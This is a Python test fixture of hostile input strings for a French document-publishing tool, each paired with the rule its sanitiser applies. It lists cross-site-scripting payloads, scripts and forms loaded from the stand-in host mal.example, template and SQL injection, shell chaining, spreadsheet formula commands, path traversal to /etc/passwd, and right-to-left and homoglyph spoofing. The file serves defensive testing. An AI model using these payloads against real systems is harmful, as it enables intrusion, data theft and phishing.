"""Texts that try to be more than words: what becomes of each in a document, and in a vocabulary.

`ran()` is what an attack would call: a page of the tests that knows of it fails. The rule named refuses the text;
`PUBLISHED` is published as words, and nothing else.
"""

from typing import NamedTuple

PUBLISHED = "published"
REFUSED_AS_MARKUP = ("markup", PUBLISHED)  # told to authors of documents; vocabularies are shown as they are written
AS_WORDS = (PUBLISHED, PUBLISHED)
INVISIBLE = ("invisible-characters", "invisible-characters")
FOREIGN = ("foreign-characters", "foreign-characters")


class Payload(NamedTuple):
    """A text, and the rule that refuses it in a document and in a vocabulary."""

    name: str
    text: str
    in_document: str
    in_vocabulary: str


def _all(fates: tuple[str, str], texts: dict[str, str]) -> list[Payload]:
    return [Payload(name, text, *fates) for name, text in texts.items()]


PAYLOADS = [
    *_all(REFUSED_AS_MARKUP, {
        # HTML
        "script": "<script>ran()</script>",
        "script-of-another-host": "<script src=//mal.example/x.js></script>",
        "script-end": "</script><script>ran()</script>",
        "script-never-closed": "<script>ran()//",
        "script-in-capitals": "<ScRiPt>ran()</sCrIpT>",
        "script-of-a-module": "<script type=module>import('//mal.example/x.js')</script>",
        "image-error": "<img src=x onerror=ran()>",
        "image-elsewhere": '<img src="https://mal.example/x.png">',
        "svg-load": "<svg/onload=ran()>",
        "svg-animation": "<svg><animate onbegin=ran() attributeName=x dur=1s>",
        "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"/></svg>',
        "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
        "details-toggle": "<details open ontoggle=ran()>",
        "body-load": "<body onload=ran()>",
        "focus": "<input autofocus onfocus=ran()>",
        "pointer": '<p style="position:fixed;inset:0" onpointermove=ran()>x</p>',
        "frame": "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
        "object": '<object data="data:text/html,<script>ran()</script>"></object>',
        "embed": "<embed src=//mal.example/x.swf>",
        "form": "<form action=//mal.example><button>Envoyer</button></form>",
        "style": "<style>@import '//mal.example/x.css';</style>",
        "style-sheet": "<link rel=stylesheet href=//mal.example/x.css>",
        "base": "<base href=//mal.example/>",
        "refresh": '<meta http-equiv=refresh content="0;url=//mal.example">',
        "head-template": '<template class="head"><script src=//mal.example/x.js></script></template>',
        "template-end": "</template><script>ran()</script>",
        "title-end": "</title><script>ran()</script>",
        "area-end": "</textarea></select><script>ran()</script>",
        "main-end": "</main></div></body></html><script>ran()</script>",
        "comment": "<!-- jamais fermé",
        "comment-end": "--><script>ran()</script>",
        "character-data": "<![CDATA[<script>ran()</script>]]>",
        "anchor": '<a href="javascript:ran()">x</a>',
        "anchor-name": '<a id=recherche-entete name=ran href="#">x</a>',
        "entity": "&lt;script&gt;ran()&lt;/script&gt;",
        "entity-decimal": "&#60;script&#62;ran()&#60;/script&#62;",
        "entity-hexadecimal": "&#x3C;script&#x3E;ran()&#x3C;/script&#x3E;",
        "tag-in-two-emphases": "<scr**ipt>ran()</scr**ipt>",
        # addresses
        "javascript-address": "javascript:ran()",
        "javascript-in-capitals": "JaVaScRiPt:ran()",
        "vbscript-address": "vbscript:ran()",
        "data-address": "data:text/html,ran()",
        # Markdown
        "link": "[x](javascript:ran())",
        "link-elsewhere": "[x](https://mal.example)",
        "picture": "![x](https://mal.example/x.png)",
        "link-by-reference": "[x]: javascript:ran()",
        "autolink": "<https://mal.example>",
        "footnote": "[^1]: <script>ran()</script>",
        "code": "`ran()`",
        "title": "# Titre",
        "title-on-a-later-line": "un\n\n## Titre",
        "quotation": "> cité",
        "fence": "```html\n<script>ran()</script>\n```",
        "attributes": "mot {: onclick=ran() }",
        "attributes-of-a-list": "- mot\n{: onclick=ran() }",
        # templates
        "expression": "{{ 7*7 }}",
        "expression-of-python": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "macro": '{{ provider("nommee") }}',
        "statement": "{% include 'mkdocs.yml' %}",
        "template-comment": "{# caché #}",
        "raw": "{% raw %}",
        "php": "<?php ran(); ?> <%= ran() %> <b>",
    }),
    *_all(AS_WORDS, {
        "quotes": '" onmouseover="ran()" x="',
        "apostrophes": "' autofocus onfocus='ran()' x='",
        "tag-that-is-none": "a < b et c > d, 3 <4",
        "cdata-end": "fin ]]> fin",
        "comment-end-alone": "fin --> fin",
        "escaped-tag": "\\u003cscript\\u003eran()\\u003c/script\\u003e",
        "percent-tag": "%3Cscript%3Eran()%3C/script%3E",
        "address-in-two-words": "java script : ran()",
        "token": "@@clausier:provider:nommee@@",
        "token-of-a-page": "@@clausier:home:@@",
        "token-unknown": "@@clausier:nothing:../../../etc/passwd@@",
        "snippet": '--8<-- "/etc/passwd"',
        "contents": "[TOC]",
        "abbreviation": "*[CGV] : ran",
        "table": "| a | b |\n|---|---|\n| c | d |",
        "definition": "mot\n: définition",
        "admonition": '!!! note "x"\n    ran()',
        "front-matter": "---\ntitle: ran\n---",
        "rule": "***\n---\n___",
        "emphasis-without-end": "**gras *et ___italique",
        "emphasis-many": "*a **b " * 20,
        "list-in-a-list": "- - - - - - - - a\n  1. 2. 3) + * b",
        "list-far-away": "9999999999999999999. a\n999999999. b",
        "emoji": ":smile: \U0001f4a5",
        "formula": '=HYPERLINK("https//mal.example";"x")',
        "formula-of-a-command": "=cmd|' /C calc'!A0",
        "formula-plus": "+1+1",
        "formula-minus": "-1+1",
        "formula-at": "@SUM(1+1)",
        "sql": "'; DROP TABLE clauses; --",
        "shell": "$(ran) ; ran | ran && ran",
        "format": "%s%n {0} {x!r} ${ran}",
        "prototype": "__proto__",
        "constructor": "constructor",
        "json": '"}],"ran":[{"',
        "backslashes": "\\\\ \\n \\0 \\",
        "path": "../../../etc/passwd",
        "path-of-windows": "C:\\Windows\\System32",
        "file-address": "file:///etc/passwd",
        "workflow-command": "::error file=x::ran %0A::add-mask::a",
        "runner-command": "##[error]ran",
        "header": "x\nSet-Cookie: ran=1",
        "other-cases": "İ ı ß ŉ ǰ ẞ",
        "no-break": "\u00a0\u202f a \u00a0\u202f",
        "spaces": "\u2000\u2001\u2002\u2003\u2004\u2009\u200a\u205f a \u3000",
        "arrows-and-signs": "← ⇒ ∞ ≠ ⌘ ☠ ⚠ № ℃",
    }),
    *_all(INVISIBLE, {
        "null": "nul\x00ran",
        "escape": "\x1b]0;ran\x07\x1b[2J",
        "bell": "\x07",
        "delete": "a\x7fb",
        "next-line": "a\x85b",
        "c1": "\x9b31mran",
        "line-separator": "a\u2028b",
        "paragraph-separator": "a\u2029b",
        "right-to-left": "\u202egpj.exe",
        "isolate": "a \u2066ran\u2069 b",
        "mark": "a\u200fb",
        "zero-width-space": "pay\u200bpal",
        "zero-width-joiner": "pay\u200dpal",
        "byte-order-mark": "a\ufeffb",
        "soft-hyphen": "a\u00adb",
        "word-joiner": "a\u2060b",
        "tag-characters": "a\U000e0072\U000e0061\U000e006e",
        "variation-selector": "a\ufe0fb",
        "hangul-filler": "a\u3164b",
        "braille-blank": "a\u2800b",
        "combining-joiner": "a\u034fb",
        "private-use": "\uf0b7 a",
        "noncharacter": "a\uffffb",
        "noncharacter-of-another-plane": "a\U0001fffeb",
        "replacement": "a\ufffdb",
        "musical-format": "a\U0001d173b",
    }),
    *_all(FOREIGN, {
        "cyrillic": "Atelier du L\u0430c",
        "greek": "\u0391telier du Lac",
        "fullwidth": "\uff21telier du Lac",
        "mathematical": "\U0001d400telier du Lac",
        "latin-alpha": "Atelier du L\u0251c",
        "ligature": "\ufb01n du contrat",
        "kelvin": "\u212ailo",
        "modifier": "l\u02bcatelier",
        "arabic-digits": "\u0663 mois",
        "arabic-letters": "\u0645\u0648\u0642\u0639",
        "han": "\u5408\u540c",
        "piled-accents": "Z\u0300\u0301\u0302\u0303\u0304a",
    }),
    Payload("long-word", "A" * 200, "field-value", "field-value"),
    Payload("long-word-of-dots", "a." * 100, "field-value", "field-value"),
    Payload("too-long", "mot " * 2000, "field-value", "field-value"),
    Payload("nothing", " \n ", "field-value", "field-value"),
    Payload("e-mail-address", "ran@mal.example", "privacy", PUBLISHED),
]  # fmt: skip
